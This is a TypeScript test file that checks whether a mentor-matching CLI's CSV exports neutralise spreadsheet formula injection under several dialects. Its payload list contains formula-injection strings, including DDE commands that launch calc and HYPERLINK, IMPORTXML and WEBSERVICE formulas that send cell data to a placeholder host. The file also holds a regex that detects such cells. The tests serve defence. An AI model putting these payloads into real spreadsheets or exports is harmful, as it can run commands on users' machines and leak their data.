import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { runInMemory } from './run-in-memory.ts';

/** What spreadsheets run, or would once the file is cut at another delimiter or line break. */
const PAYLOADS = [
  '=1+1',
  '+49 30 1',
  '-2+3',
  '@SUM(1)',
  '=HYPERLINK("https://x.example?"&A1)',
  '=cmd|"/c calc"!A1',
  '+cmd|"/c calc"!A1',
  '-cmd|"/c calc"!A1',
  '=DDE("cmd";"/c calc";"x")',
  '=IMPORTXML("https://x.example","//a")',
  '=WEBSERVICE("https://x.example")',
  '\t=1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1',
  '  +1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u3000@x',
  '"=1',
  '""=1',
  "'=1",
  "''=1",
  "' =1",
  'a;=1+1',
  'a,=1',
  'a\t=1',
  'a|=1',
  'a\n=1',
  'a\r\n@x',
  'a; +1',
  'a";"=1',
  'a","=1',
  '%0A=1',
];

const root = mkdtempSync(join(tmpdir(), 'tandem-'));
afterAll(() => {
  rmSync(root, { recursive: true });
});

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const table = (rows: readonly (readonly string[])[]): string =>
  rows.map((row) => `${row.map(quoted).join(',')}\n`).join('');

/** Two files with a payload per row in every column that takes text. */
function lay(folder: string): string[] {
  const persons = (role: string): string[][] =>
    PAYLOADS.map((text, i) => [
      // Several departments in a cell are an error, so these hold one.
      ...[`${text}${role}${i}`, text, `${text}@x.example`],
      ...[`${role}/${text.replaceAll(/[;,\r\n]/g, ' ')}`, text, text],
      ...['5', '5', text],
    ]);
  const header = 'id,name,email,department,site,topics,social_media_skill,communication,hobby';
  const without = ([id, name, email, department, site, topics, , , hobby]: string[]): string[] =>
    [id, name, email, department, site, topics, hobby].map((cell) => cell ?? '');
  const columns = header.split(',');
  const [mentors, managers] = [join(folder, 'mentors.csv'), join(folder, 'managers.csv')];
  writeFileSync(mentors, table([columns, ...persons('M')]));
  writeFileSync(managers, table([without(columns), ...persons('F').slice(1).map(without)]));
  return [mentors, managers];
}

const TRIGGER = /^[\p{Zs}\u00ad\u200b-\u200d\u2060\ufeff]*[=+\-@\t\r\0＝＋－＠]/u;

/** The cells that a program sees which takes another delimiter, or knows no quotes. */
function* cuts(text: string): Generator<string> {
  const body = text.replace(/^\ufeff?(?:sep=.\r\n)?/, '');
  for (const delimiter of [',', ';', '\t']) {
    const options = { delimiter, relax_column_count: true, relax_quotes: true };
    for (const row of parse(body, options)) yield* row;
    for (const line of body.split(/[\r\n]+/)) {
      for (const cell of line.split(delimiter)) yield cell.replace(/^"/, '');
    }
  }
}

it('the inputs themselves do begin cells as formulas', () => {
  const [mentors = ''] = lay(root);
  const dangerous = [...cuts(readFileSync(mentors, 'utf8'))].filter((cell) => TRIGGER.test(cell));
  expect(dangerous.length).toBeGreaterThan(5 * PAYLOADS.length);
});

describe.each(['excel-de', 'excel', 'rfc4180'])('in the dialect %s', (dialect) => {
  const folder = join(root, dialect);
  const at = (name: string): string => join(folder, name);
  let inputs: string[];
  beforeAll(async () => {
    mkdirSync(folder);
    inputs = lay(folder);
    const argv = ['match', ...inputs, '-o', at('roster.csv'), '--unmatched', at('unmatched.csv')];
    const more = ['--proposals', at('proposals.csv'), '--audit', at('audit.json')];
    const { code, stderr } = await runInMemory([...argv, ...more, '--dialect', dialect, '--quiet']);
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    const kit = ['kit', at('roster.csv'), ...inputs, '-o', at('kit')];
    expect(await runInMemory([...kit, '--mail-merge', at('letters.csv')])).toMatchObject({
      code: 0,
    });
  });

  it.each(['roster.csv', 'unmatched.csv', 'proposals.csv', 'letters.csv'])(
    'no cell of %s begins as a formula, wherever it is cut',
    (file) => {
      const text = readFileSync(at(file), 'utf8');
      const cells = [...cuts(text)];
      expect(cells.length).toBeGreaterThan(5);
      expect(cells.filter((cell) => TRIGGER.test(cell))).toEqual([]);
    },
  );

  it('the roster is read back as it was meant', async () => {
    const argv = ['verify', at('roster.csv'), ...inputs, '--audit', at('audit.json')];
    const { code, stdout } = await runInMemory([...argv, '--json']);
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({ valid: true, optimal: true });
  });

  it('carried on to the next wave it gives the same bytes', async () => {
    const argv = ['match', ...inputs, '--previous', at('roster.csv'), '--dialect', dialect];
    const { code } = await runInMemory([...argv, '-o', at('next.csv')]);
    expect(code).toBe(0);
    expect(readFileSync(at('next.csv'), 'utf8')).toBe(readFileSync(at('roster.csv'), 'utf8'));
  });
});
